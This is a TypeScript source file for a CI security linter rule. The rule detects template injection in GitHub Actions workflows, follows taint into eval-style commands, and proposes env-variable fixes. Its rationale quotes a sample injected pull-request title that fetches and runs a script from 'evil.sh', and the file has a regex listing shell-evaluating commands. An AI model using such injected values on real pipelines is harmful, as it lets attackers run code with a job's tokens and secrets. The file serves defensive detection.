/**
 * `${{ }}` expansions of attacker-controlled text into code: `run:` scripts, `actions/github-script`
 * `script:`, and other inputs that actions execute. Graded by how much of the text an attacker controls,
 * by who can trigger the workflow and by what the job reaches; taint is followed across `env:`,
 * `$GITHUB_ENV`, `$GITHUB_OUTPUT`, `steps.*.outputs` and `needs.*.outputs`.
 */
import type { Severity } from '../../model/finding.js'
import type { RuleResult } from '../../model/rule.js'
import { defineWorkflowRule, related, stepLocation } from '../../workflow/kit.js'
import {
  applyGates,
  commands,
  scriptLocation,
  stepDoc,
  strLocation,
  expressionLocation,
  gatesFor,
  trackerFor,
  type Expression,
  type Gate,
  type Grade,
  type Step,
  type Str,
  type Taint,
  type WorkflowModel
} from '../../workflow/index.js'
import { dedupeResults, eachStep, envReference, envVarName, stepLabel } from '../../workflow/rule-helpers.js'
import { injectionGrade, taintConfidence, taintLocations } from './template-injection-support.js'
import { byAction, CODE_INPUT_ACTIONS } from '../../workflow/data/index.js'

/** Action inputs that are executed as code (action name → inputs and language; data/code-execution.ts). */
export const CODE_INPUTS = byAction(CODE_INPUT_ACTIONS)

interface Sink {
  str: Str
  step: Step
  label: string
  language: 'shell' | 'javascript'
}

function sinksOf(step: Step): Sink[] {
  const sinks: Sink[] = []
  if (step.run && step.run.expressions.length > 0) sinks.push({ str: step.run, step, label: 'run', language: 'shell' })
  const code = step.uses ? CODE_INPUTS.get(step.uses.name) : undefined
  if (code) {
    for (const [name, entry] of step.with) {
      if (code.inputs.includes(name.toLowerCase()) && entry.value && entry.value.expressions.length > 0) {
        sinks.push({ str: entry.value, step, label: `${step.uses!.name} ${name}`, language: code.language })
      }
    }
  }
  return sinks
}

/**
 * The grade after the gates: one level lower per gate, and `info` when an author-association gate checks the
 * author of the very text expanded (a trusted member's own comment is not an outsider's).
 */
function gatedGrade(grade: Grade, gates: Gate[], taint: Taint): { severity: Severity; note: string } {
  const own = gates.find((gate) => gate.kind === 'author-association' && gate.subject && taint.origin.startsWith(`${gate.subject}.`))
  if (own) return { severity: 'info', note: `; info because ${own.note} and the text is theirs` }
  return { severity: applyGates(grade, gates), note: gates.length > 0 ? `; lowered because ${gates.map((g) => g.note).join(', ')}` : '' }
}

function describeTaint(taint: Taint): string {
  const via = taint.via.length > 0 ? ` (via ${taint.via.join(' → ')})` : ''
  return `${taint.origin}${via}`
}

function fixFor(expression: Expression, taint: Taint, sink: Sink): string {
  const direct = /^env\.([A-Za-z_][A-Za-z0-9_]*)$/i.exec(expression.body.trim())
  if (direct) {
    // Already an environment variable: read it from the environment instead of expanding it into the code.
    return `${sink.label.replace(/^.*\s(\S+)$/, '$1')}: … ${envReference(direct[1]!, sink.step.effectiveShell, sink.language)} …   # instead of \${{ ${expression.body.trim()} }}`
  }
  const path = taint.via.length > 0 ? (taint.via[taint.via.length - 1] ?? taint.origin) : taint.origin
  const name = envVarName(/^(steps|needs|env)\./.test(path) || /^github\.|^inputs\.|^matrix\./.test(path) ? path : expression.body.trim())
  const text = `\${{ ${expression.body.trim()} }}`
  const reference = envReference(name, sink.step.effectiveShell, sink.language)
  return [`env:`, `  ${name}: ${text}`, `${sink.label.replace(/^.*\s(\S+)$/, '$1')}: … ${reference} …   # instead of ${text}`].join('\n')
}

/** Commands that run their argument as code: `eval`, `sh -c`, `bash -c`, `Invoke-Expression`, `source <(...)`. */
const EVALUATING =
  /^(?:eval\b|(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*-c\b|pwsh\s+(?:-\w+\s+)*-c(?:ommand)?\b|powershell\s+(?:-\w+\s+)*-c(?:ommand)?\b|Invoke-Expression\b|iex\b|(?:source|\.)\s+<\()/i

/**
 * Tainted data that reaches a shell `eval` (or `sh -c`, `Invoke-Expression`) through variables: the env
 * indirection does not help once the script evaluates the variable. Also in local scripts run by a step.
 */
function shellEvaluations(model: WorkflowModel): RuleResult[] {
  const tracker = trackerFor(model)
  const out: RuleResult[] = []
  const report = (step: Step, taint: Taint, location: RuleResult['location'], text: string, where: string): void => {
    const job = step.job
    const { grade, why } = injectionGrade(taint, job?.workflow ?? null, job, model)
    out.push({
      status: 'fail',
      severity: job ? gatedGrade(grade, gatesFor(job, step), taint).severity : grade,
      message: `${stepLabel(step)}${where}: \`${text.length > 60 ? `${text.slice(0, 57)}...` : text}\` evaluates ${describeTaint(taint)} as code (${why.replace(/^\((.*)\)$/, '$1')})`,
      ...(location ? { location } : {}),
      confidence: taintConfidence(taint),
      relatedLocations: [
        ...(where ? [related(stepLocation(step), `${stepLabel(step)} runs the script`)] : []),
        ...taintLocations(taint, job?.workflow ?? null, job)
      ],
      fix: 'Do not eval untrusted data: pass it as an argument ("$VAR") to a fixed command.'
    })
  }
  const steps: Step[] = []
  for (const workflow of model.workflows) for (const job of workflow.jobs) steps.push(...job.steps)
  for (const action of model.actions) steps.push(...(action.runs?.steps ?? []))
  for (const step of steps) {
    if (!step.run) continue
    const site = { job: step.job, step, action: step.action }
    for (const command of commands(step.run.value)) {
      if (!EVALUATING.test(command.text)) continue
      const taint = tracker.shellTaint(step, step.run.value, command.start, command.text, site)
      if (taint) report(step, taint, strLocation(stepDoc(step), step.run, command.start, command.end), command.text, '')
    }
  }
  for (const script of model.scripts.values()) {
    const evaluating = commands(script.text).filter((command) => EVALUATING.test(command.text))
    for (const step of script.callers) {
      for (const command of evaluating) {
        const taint = tracker.shellTaint(step, script.text, command.start, command.text, { job: step.job, step, action: step.action })
        if (taint) report(step, taint, scriptLocation(script, command.start, command.end), command.text, ` (through ${script.path})`)
      }
    }
  }
  return out
}

export const templateInjection = defineWorkflowRule({
  meta: {
    id: 'template-injection',
    area: 'build',
    severity: 'high',
    title: 'Attacker-controlled text expanded into code',
    rationale:
      '`${{ }}` is substituted into the script before it runs, so a pull request title like `"; curl evil.sh | sh #` becomes code with the job\'s token and secrets. Passing the value through an environment variable makes it data.',
    remediation: 'Move the expression into `env:` and use the variable (`"$PR_TITLE"`, `process.env.PR_TITLE`) in the script.',
    references: ['zizmor: template-injection', 'https://docs.github.com/en/actions/concepts/security/script-injections', 'CWE-94'],
    access: { token: 'none' }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model)
    const results: RuleResult[] = []
    eachStep(model, (doc, job, step) => {
      for (const sink of sinksOf(step)) {
        for (const expression of sink.str.expressions) {
          const taint = tracker.expressionTaint(expression, { job, step, action: doc.kind === 'action' ? doc : null })
          if (!taint) continue
          const { grade, why } = injectionGrade(taint, doc.kind === 'workflow' ? doc : null, job, model)
          const gates = job ? gatesFor(job, step) : []
          const { severity, note: gated } = gatedGrade(grade, gates, taint)
          results.push({
            status: 'fail',
            severity,
            message: `${stepLabel(step)}: \`\${{ ${expression.body.trim()} }}\` expands ${taint.level === 'arbitrary' ? 'attacker-controlled text' : taint.level === 'input' ? 'an input' : 'partly attacker-influenced text'} from ${describeTaint(taint)} into \`${sink.label}\` (${why.replace(/^\((.*)\)$/, '$1')})${gated}`,
            location: expressionLocation(doc, expression),
            confidence: taintConfidence(taint),
            relatedLocations: taintLocations(taint, doc.kind === 'workflow' ? doc : null, job),
            fix: fixFor(expression, taint, sink)
          })
        }
      }
    })
    results.push(...shellEvaluations(model))
    return dedupeResults(results)
  }
})
